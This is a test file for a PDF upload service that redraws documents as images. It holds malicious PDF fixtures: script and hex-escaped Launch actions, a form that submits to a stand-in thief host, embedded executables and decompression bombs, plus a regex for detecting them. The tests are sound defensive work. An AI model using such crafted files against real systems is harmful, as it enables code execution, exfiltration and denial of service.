import { once } from 'node:events';
import { join } from 'node:path';
import { Worker } from 'node:worker_threads';
import { deflateSync } from 'node:zlib';
import { describe, expect, vi } from 'vitest';
import { MINUTE } from '../../src/kernel/clock.ts';
import { diskStore } from '../../src/modules/files/index.ts';
import { createGate } from '../../src/modules/files/service/gate.ts';
import { OF_A_STRANGER, redrawPdf } from '../../src/modules/files/service/pdf.ts';
import { pdfOf, pdfOfCompressedCatalog } from '../support/pdfs.ts';
import { test } from './fixture.ts';

// A PDF is kept as pictures of its pages: whatever it can do stays behind.

const SCRIPT = '/OpenAction<</S/JavaScript/JS(app.alert(1))>>';
/** Everything that a document can do besides showing its pages. */
const CAN_ACT =
  /JavaScript|OpenAction|\/AA|Launch|SubmitForm|ImportData|GoTo|URI|RichMedia|Embedded|XFA|AcroForm|Annots|#[0-9a-f]{2}/i;

const megabytes = (n: number, text: string) => deflateSync(Buffer.alloc(n * 1024 ** 2, text), { level: 9 });
/** A page whose every point is computed, two hundred times over. */
const SLOW = pdfOf({
  content: '/S sh\n'.repeat(200),
  box: '0 0 700 700',
  page: '/Resources<</Shading<</S 5 0 R>>>>',
  objects: [
    '<</ShadingType 1/ColorSpace/DeviceGray/Domain[0 700 0 700]/Function 6 0 R>>',
    (() => {
      const program = `{ ${'2 copy mul sin add sin '.repeat(200)} mul sin abs }`;
      return `<</FunctionType 4/Domain[0 700 0 700]/Range[0 1]/Length ${program.length}>>stream\n${program}\nendstream`;
    })(),
  ],
});
/** A page that is drawn at once, after a comment of 300 MB. */
const LARGE = pdfOf({ filter: '/Filter/FlateDecode', encoded: megabytes(300, '% nothing\n') });
/** Against hanging only. */
const SOON = { timeout: 120_000, interval: 20 };
const LONG_MS = 30 * MINUTE;

const FONT = '<</Type/Font/Subtype/TrueType/BaseFont/Arial/Encoding<</Differences[192/uni0410/uni0411]>>>>';

describe('a pdf that acts by name is refused', () => {
  test.for([
    ['a script', pdfOf({ catalog: SCRIPT })],
    ['a script with an escaped letter', pdfOf({ catalog: SCRIPT.replace('/JavaScript', '/J#61vaScript') })],
    ['a program to start, all escaped', pdfOf({ catalog: '/Open#41ction<</S/L#61unch/F(calc.exe)>>' })],
    ['a form that is sent', pdfOf({ page: '/AA<</O<</S/SubmitForm/F(https://thief.example)>>>>' })],
    ['data that is fetched', pdfOf({ catalog: '/OpenAction<</S/ImportData/F(x.fdf)>>' })],
    ['another document that is opened', pdfOf({ catalog: '/OpenAction<</S/GoToR/F(x.pdf)/D[0/Fit]>>' })],
    ['one inside of it that is opened', pdfOf({ catalog: '/OpenAction<</S/GoToE/T<</R/C>>>>' })],
    ['a film', pdfOf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' })],
    ['a file in it', pdfOf({ objects: ['<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream'] })],
    ['files in it', pdfOf({ catalog: '/Names<</EmbeddedFiles<</Names[]>>>>' })],
  ] as const)('%s', async ([, bytes], { upload }) => {
    const { status, body } = await upload(bytes, 'x.pdf');
    expect([status, body.errors]).toEqual([400, { photo: ['Файл повреждён'] }]);
  });
});

describe('what no name in the file tells stays behind', () => {
  test.for([
    ['a script in a compressed catalog', pdfOfCompressedCatalog(SCRIPT)],
    ['a program in a compressed catalog', pdfOfCompressedCatalog('/OpenAction<</S/Launch/F(calc.exe)>>')],
    ['a form', pdfOf({ catalog: '/AcroForm<</Fields[]/XFA()>>' })],
    [
      'a link',
      pdfOf({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://x.example)>>>>]' }),
    ],
    ['a view to open with', pdfOf({ catalog: '/OpenAction[3 0 R/Fit]' })],
    ['a comment', pdfOf({ content: '20 20 50 50 re f % <script>' })],
  ] as const)('%s', async ([, bytes], { upload, photo, open }) => {
    expect((await upload(bytes, 'чек.pdf')).status).toBe(200);
    const { url, name } = await photo();
    expect(name).toBe('чек.pdf');
    const { rawPayload, headers } = await open(url);
    expect(headers['content-type']).toBe('application/pdf');
    const text = rawPayload.toString('latin1');
    expect(text).toMatch(/^%PDF-1\.4/);
    // All that is not the picture.
    const around = text.replace(/\/DCTDecode .*?endstream/s, '');
    expect(around).not.toMatch(CAN_ACT);
    expect(around.match(/\/Type \/\w+/g)).toEqual(['/Type /Catalog', '/Type /Pages', '/Type /Page', '/Type /XObject']);
    expect(text).not.toContain('<script>');
    // A reader opens it, and so do we.
    expect((await upload(rawPayload, 'again.pdf')).status).toBe(200);
  });
});

describe('a pdf that cannot be drawn is refused with a sentence', () => {
  test.for([
    [
      'locked by a password',
      pdfOf({
        objects: [`<</Filter/Standard/V 1/R 2/Length 40/P -4/O<${'00'.repeat(32)}>/U<${'11'.repeat(32)}>>>`],
        trailer: '/Encrypt 5 0 R/ID[<00><00>]',
      }),
      /паролем/,
    ],
    ['no pages', pdfOf({ pages: 0 }), /ни одной страницы|повреждён/],
    ['eleven pages', pdfOf({ pages: 11 }), /не больше 10/],
    ['a page of 99 units, 198 points', pdfOf({ box: '0 0 99 300' }), /слишком мала/],
    [
      'letters without their font',
      pdfOf({
        content: 'BT /F 24 Tf 20 100 Td <C0C1> Tj ET',
        page: `/Resources<</Font<</F 5 0 R>>>>`,
        objects: [FONT],
      }),
      /шрифтов/,
    ],
    [
      'a page that inflates to a gigabyte of lines',
      pdfOf({ filter: '/Filter/FlateDecode', encoded: megabytes(700, '0 0 m 1 1 l S\n') }),
      /слишком сложный/,
    ],
  ] as const)('%s', async ([, bytes, sentence], { upload, open }) => {
    const { status, body } = await upload(Buffer.from(bytes), 'x.pdf');
    expect([status, body.errors?.['photo']?.[0]]).toEqual([400, expect.stringMatching(sentence)]);
    expect((await open('/live')).statusCode).toBe(200);
  });
});

describe('the drawing of a document is bounded', () => {
  test('in time: what would take minutes is given up', async () => {
    let outcome: unknown;
    void redrawPdf(createGate(), SLOW).then((drawn) => (outcome = drawn));
    await vi.waitFor(() => expect(outcome).toBe('too_slow'), SOON);
  });

  test('in memory: what would take 300 MB finds none', async () => {
    expect(await redrawPdf(createGate(), LARGE, LONG_MS)).toBe('too_much_memory');
  });

  test('without our environment, where secrets are', async () => {
    vi.stubEnv('KANTOR_JWT_SECRET', 'a secret of the server');
    const worker = new Worker("require('node:worker_threads').parentPort.postMessage({ ...process.env })", {
      ...OF_A_STRANGER,
      eval: true,
    });
    try {
      expect(await once(worker, 'message')).toEqual([{}]);
    } finally {
      vi.unstubAllEnvs();
      await worker.terminate();
    }
  });
});

test('ten pages are drawn, a page of a poster at the size of a sheet', async ({ upload, photo, open }) => {
  const sizesOf = async (bytes: Buffer) => {
    expect((await upload(bytes, 'чек.pdf')).status).toBe(200);
    const text = (await open((await photo()).url)).rawPayload.toString('latin1');
    return [...text.matchAll(/\/Width (\d+) \/Height (\d+)/g)].map(([, width, height]) => [
      Number(width),
      Number(height),
    ]);
  };
  expect(await sizesOf(pdfOf({ pages: 10 }))).toEqual(Array(10).fill([600, 400]));
  const [[width = 0, height = 0] = []] = await sizesOf(pdfOf({ box: '0 0 14400 14400' }));
  expect(width * height).toBeLessThanOrEqual(2_100_000);
  expect(width).toBeGreaterThan(1400);
});

test('a document kept as it came, by an older version, is still served: as a download', async ({
  kantor,
  upload,
  photo,
  open,
}) => {
  expect((await upload(pdfOf(), 'старый.pdf')).status).toBe(200);
  const { url } = await photo();
  const [id = ''] = /[\da-f-]{36}/.exec(url) ?? [];
  const old = pdfOf({ catalog: SCRIPT });
  await diskStore(join(kantor.settings.dataDir, 'files')).put(id, old);
  const { statusCode, rawPayload, headers } = await open(url);
  expect([statusCode, rawPayload.equals(old)]).toEqual([200, true]);
  expect(headers).toMatchObject({
    'content-type': 'application/pdf',
    'content-disposition': expect.stringMatching(/^attachment/),
    'content-security-policy': "default-src 'none'; sandbox",
  });
});

test('pictures of pages take their turns with other pictures', async () => {
  const gate = createGate();
  const decode = vi.spyOn(gate, 'decode');
  expect(await redrawPdf(gate, pdfOf({ pages: 2 }))).toMatchObject({ side: 400 });
  expect(decode.mock.calls.map(([bytes]) => bytes)).toEqual([600 * 400 * 4, 600 * 400 * 4]);
});
